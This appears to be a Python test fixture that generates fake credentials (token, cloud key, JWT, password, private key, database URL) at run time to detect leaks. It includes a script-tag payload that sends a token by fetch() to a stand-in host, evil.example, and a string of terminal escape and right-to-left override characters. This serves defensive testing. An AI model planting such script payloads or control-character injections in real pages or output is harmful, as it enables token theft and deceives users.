"""Secrets, all made up at run time from random parts, that `leak-secrets` spreads.

Nothing here works anywhere, and no whole secret stands in the source.
"""

import base64
import json
import secrets
import string
from dataclasses import asdict, dataclass

ALPHANUMERIC = string.ascii_letters + string.digits


def _random(length: int, alphabet: str = ALPHANUMERIC) -> str:
    return "".join(secrets.choice(alphabet) for _ in range(length))


def _jwt() -> str:
    claims = ({"alg": "HS256", "typ": "JWT"}, {"sub": _random(8), "exp": 2_000_000_000})
    parts = [json.dumps(claim).encode() for claim in claims] + [secrets.token_bytes(32)]
    encoded = (base64.urlsafe_b64encode(part).rstrip(b"=") for part in parts)
    return b".".join(encoded).decode()


@dataclass(frozen=True, slots=True)
class Leaked:
    """One set of strings that must never be seen outside the platform."""

    token: str
    cloud_key: str
    jwt: str
    password: str
    email: str
    private_key: str

    @classmethod
    def make(cls) -> "Leaked":
        kind = "PRIVATE " + "KEY"
        return cls(
            token="gh" + "p_" + _random(36),
            cloud_key="AK" + "IA" + _random(16, string.ascii_uppercase + "234567"),
            jwt=_jwt(),
            password=_random(20),
            email=f"{_random(6).lower()}.{_random(8).lower()}@example.com",
            private_key=f"-----BEGIN {kind}-----\n{_random(64)}\n-----END {kind}-----",
        )

    @property
    def dsn(self) -> str:
        return f"postgres://billing:{self.password}@db.internal.example:5432/billing"

    @property
    def markup(self) -> str:
        return f"<script>fetch('//evil.example/{self.token}')</script>"

    @property
    def control(self) -> str:
        """Terminal escape, bell, right-to-left override and a line break."""
        return f"\x1b[31m\x07\u202e{self.email}\r\n\u200b"

    def as_json(self) -> str:
        """For tests: what to look for in places where it must not be."""
        return json.dumps(asdict(self) | {"dsn": self.dsn, "markup": self.markup})
